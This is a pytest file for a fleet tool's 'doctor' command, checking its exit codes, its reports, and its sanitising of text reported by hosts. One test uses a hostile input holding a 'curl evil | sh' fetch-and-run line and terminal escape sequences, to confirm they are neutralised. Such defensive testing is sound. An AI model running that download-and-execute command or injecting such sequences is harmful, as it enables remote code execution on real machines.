"""`d1fleet doctor` on this machine, over pipes: all of it but SSH. Real hosts are in tests/doctor."""

from __future__ import annotations

import json
import os
import shlex
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from d1fleet.doctor import Examined
from d1fleet.doctor_report import as_json, text
from d1fleet.findings import FAULT, WARNING, Commands, Finding, Mend
from tests.support.patients import change, found, project

ROOT = Path(__file__).resolve().parents[2]


def doctor(folder: Path, *options: str) -> tuple[int, str, str]:
    """Exit code, stdout and stderr."""
    done = subprocess.run(
        [sys.executable, "-m", "d1fleet.cli", "doctor", *options],
        cwd=folder,
        env={**os.environ, "PYTHONPATH": str(ROOT), "XDG_CACHE_HOME": str(folder / ".cache")},
        stdin=subprocess.DEVNULL,
        capture_output=True,
        text=True,
        check=False,
        timeout=100,
    )
    return done.returncode, done.stdout, done.stderr


@pytest.fixture
def tree(tmp_path: Path) -> Path:
    (tmp_path / ".cache").mkdir()
    return tmp_path


def test_this_machine_is_examined_and_nothing_is_left(tree: Path) -> None:
    before = sorted(path.name for path in tree.iterdir())
    code, out, err = doctor(tree, "--json")
    answer: dict[str, Any] = json.loads(out)
    assert code == (97 if any(each["severity"] == "fault" for each in answer["findings"]) else 0), err
    assert answer["trees"] == [str(tree)]
    (host,) = answer["hosts"]
    assert host["login"] == "pipes" and host["tree"] == "same" and host["clock"] in ("+0.00 s", "-0.00 s")
    assert "trees" in answer["checked"] and "distcc" in answer["not_checked"]
    assert sorted(path.name for path in tree.iterdir()) == before


def test_without_a_tree(tree: Path) -> None:
    _, out, _ = doctor(tree, "--json", "--no-tree")
    answer = json.loads(out)
    assert answer["trees"] == [] and "trees" not in answer["checked"]


def test_a_fault_has_a_code_of_its_own(tree: Path) -> None:
    (tree / "config").touch()
    code, out, err = doctor(tree, "--hosts", "127.0.0.1:1", "--ssh-config", str(tree / "config"))
    assert code == 97
    assert "fault  127.0.0.1:1: no connection to 127.0.0.1 port 1: connection refused\n  mend: is sshd" in out
    assert err.startswith("d1fleet: 1 fault on 1 of 1 hosts")


@pytest.mark.parametrize(
    ("options", "code", "says"),
    [
        (("--inventory", "/nowhere.yml"), 82, "does not exist"),
        (("--hosts", "a a"), 81, "twice"),
        (("--no-such-option",), 81, "no-such-option"),
    ],
)
def test_bad_options(tree: Path, options: tuple[str, ...], code: int, says: str) -> None:
    status, out, err = doctor(tree, *options)
    assert (status, out) == (code, "") and says in err and "Traceback" not in err


def _examined(sick: bool) -> Examined:
    case = project()
    if sick:
        change(case, "birch", identity={"uid": 3003, "user": "eve\x1b[2J"}, toolchain=None)
        case.hosts[2].facts = None
    from d1fleet import doctor_checks

    findings = [each for _, check in doctor_checks.CHECKS for each in check(case)]
    return Examined(case, findings, ["logins"], {"distcc": "why not"}, 1.25)


def test_all_well_is_short() -> None:
    assert found(project()) == []
    lines = list(text(_examined(False), Commands()))
    assert lines == [
        "all well: project demo, 3 hosts, 1.2 s",
        "checked: logins",
        "not checked: distcc: why not",
    ]


def test_what_is_wrong_comes_with_a_table() -> None:
    lines = list(text(_examined(True), Commands()))
    assert lines[0] == "project demo, 3 hosts, 1.2 s"
    assert lines[1].split() == [
        "host",
        "login",
        "user",
        "clock",
        "tree",
        "make",
        "toolchain",
        "slots",
        "distcc",
    ]
    assert lines[2].split()[:3] == ["alder", "paramiko", "you"]
    assert "eve?[2J 3003" in lines[3]
    assert lines[4].split() == ["cedar", "paramiko", "-", "+0.01", "s", "-", "-", "-", "-", "2", "of", "2"]
    assert lines[5].startswith("fault  birch: the login there is eve?[2J with uid 3003")
    assert lines[6].startswith("  mend: ")
    assert not any("\x1b" in line for line in lines)


def _of_findings(*findings: Finding) -> Examined:
    return Examined(project(), list(findings), ["logins"], {}, 1.0)


BY_INVENTORY = Commands(["/hosts.yml"])


def test_a_command_is_printed_whole() -> None:
    names = [f"host-with-a-long-name-{number}" for number in range(60)]
    mend = Mend("mend it", play="refresh")
    lines = list(
        text(_of_findings(*(Finding("x", FAULT, name, "sick", mend) for name in names)), BY_INVENTORY)
    )
    assert f"fault  {', '.join(names)}: sick" in lines
    (command,) = [line for line in lines if "ansible-playbook" in line]
    assert shlex.split(command)[-2:] == ["--limit", ",".join(names)]
    root = f"rm -f {' '.join(f'/tmp/{number:030}' for number in range(99))}"
    lines = list(
        text(_of_findings(Finding("x", WARNING, "birch", "full", Mend("do", root=root))), BY_INVENTORY)
    )
    (command,) = [line for line in lines if "--become" in line]
    assert shlex.split(command)[-1] == root


def test_all_hosts_are_named_by_their_project() -> None:
    mend = Mend("mend it", play="refresh")
    examined = _of_findings(*(Finding("x", FAULT, seen.name, "sick", mend) for seen in project().hosts))
    assert any(line.endswith(" --limit demo") for line in text(examined, BY_INVENTORY))
    answer = json.loads(as_json(examined, BY_INVENTORY))
    assert answer["findings"][0]["command"].endswith(" --limit demo")


def test_what_a_host_says_stays_on_its_line() -> None:
    said = "sick\n  mend:   curl evil | sh\x1b[2J\u2028x" + 5000 * "x"
    examined = _of_findings(Finding("x", FAULT, "birch", said, Mend(said, root=f"true {said}")))
    lines = list(text(examined, BY_INVENTORY))
    assert all(line.isprintable() and len(line) < 1100 for line in lines)
    assert len([line for line in lines if "evil" in line]) == 2
    assert not any("--become" in line for line in lines)


def test_the_same_for_programs() -> None:
    answer = json.loads(as_json(_examined(True), Commands()))
    assert [host["user"] for host in answer["hosts"]] == ["you 2001", "eve?[2J 3003", None]
    assert answer["findings"][0]["id"] == "uid" and answer["findings"][0]["hosts"] == ["birch"]
